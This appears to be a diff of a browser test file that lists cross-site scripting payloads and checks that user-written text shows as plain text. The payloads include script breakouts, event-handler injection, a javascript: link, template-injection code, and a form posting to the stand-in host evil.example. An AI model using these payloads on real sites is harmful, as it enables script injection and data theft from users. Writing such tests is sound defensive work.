@@ -9,11 +9,11 @@ const PAYLOADS = [
   `' ${MARK} autofocus onfocus=alert(1) x='`,
   `</script><script ${MARK}>alert(1)</script>`,
   `</textarea></title><iframe ${MARK} srcdoc="<script>parent.alert(1)</script>">`,
-  `<a ${MARK} href="java\tscript:alert(1)">x</a>`,
+  `<a ${MARK} href="javascript:alert(1)">x</a>`,
   `{{constructor.constructor("alert(1)")()}}<b ${MARK}>`,
   `\${alert(1)}<math ${MARK}><mtext></mtext></math>`,
   `<style ${MARK}>*{display:none}</style>`,
-  `<form ${MARK} action=https://evil.example><input name=q>`,
+  `<form ${MARK} action=//evil.example><input name=q>`,
 ]
 
 test('what people wrote is text on every screen that shows it', ONCE, async ({ page }) => {
